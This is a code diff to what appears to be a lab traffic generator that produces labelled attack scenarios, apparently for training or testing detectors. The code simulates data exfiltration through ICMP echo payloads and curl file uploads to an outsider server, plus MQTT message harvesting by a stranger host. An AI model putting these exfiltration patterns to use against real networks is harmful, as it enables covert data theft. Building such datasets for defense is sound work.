@@ -45,12 +45,6 @@ def dns_by_resolver(scene):
                        dice.random() < 0.5)
 
 
-def _echo(identifier, number, data):
-    """An ICMP echo request (RFC 792)."""
-    whole = struct.pack(">BBHHH", 8, 0, 0, identifier, number) + data
-    return whole[:2] + struct.pack(">H", raw.checksum(whole)) + whole[4:]
-
-
 @scenario("exfil-icmp", "EXFILTRATION", "a device whose echo requests carry data")
 def icmp(scene):
     device, server, dice = covert.compromised(scene), scene.outsider(), scene.dice
@@ -61,7 +55,8 @@ def icmp(scene):
         with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sending:
             for number, _ in enumerate(talk.beats(scene, dice, rate, 2 * scene.seconds)):
                 data = dice.randbytes(dice.randint(size // 2, size))
-                sending.sendto(_echo(identifier, number & 0xFFFF if counts else 1, data), (server.address, 0))
+                head = struct.pack(">HH", identifier, number & 0xFFFF if counts else 1)
+                sending.sendto(raw.icmp(8, head + data), (server.address, 0))
     with scene.attack(device.address, server.address, 1):
         talk.crew(scene, device, [0], work)
 
@@ -87,11 +82,11 @@ def upload(scene):
     speed = dice.choice(("150k", "300k", "600k", "1M"))
     how = dice.choice((["-T", path], ["-F", f"file=@{path}"], ["--data-binary", f"@{path}"]))
 
-    def answer(connection):
+    def answer(connection, _):
         if covert.whole_request(connection):
             connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
     with (talk.serving(scene, server, port, answer),
-          talk.blamed(scene, [device.address], server.address, port, tail=4)):
+          talk.blamed(scene, [device.address], server.address, port, tail=6)):
         scene.run(device, "curl", "-s", "-H", "Expect:", "--limit-rate", speed, *how,
                   f"http://{server.address}:{port}/{talk.words(dice, 1)[0]}", seconds=2.5 * scene.seconds)
 
@@ -104,7 +99,7 @@ def stream(scene):
     size, rate, kept = int(2 ** dice.uniform(9, 14)), 2 ** dice.uniform(2, 6), dice.random() < 0.6
     chatty = dice.random() < 0.5
 
-    def answer(connection):
+    def answer(connection, _):
         while connection.recv(65536):
             if chatty:
                 connection.sendall(b"\x06")
@@ -135,7 +130,7 @@ def harvest(scene):
     options += ["-i", client_id(dice)] * dice.randrange(2)
     options += dice.choice(([], ["-k", 5], ["-k", 60]))
     options += ["-q", dice.randrange(3), "-V", dice.choice(("mqttv31", "mqttv311", "5")), "-v"]
-    with talk.blamed(scene, [stranger.address], broker.address, PORT):
+    with talk.blamed(scene, [stranger.address], broker.address, PORT, tail=4):
         for _ in talk.beats(scene, dice, 2, 1.5 * scene.seconds):
             seconds = dice.randint(2, max(3, int(1.5 * scene.seconds)))
             scene.run(stranger, "mosquitto_sub", "-h", broker.address, *options, "-W", seconds,
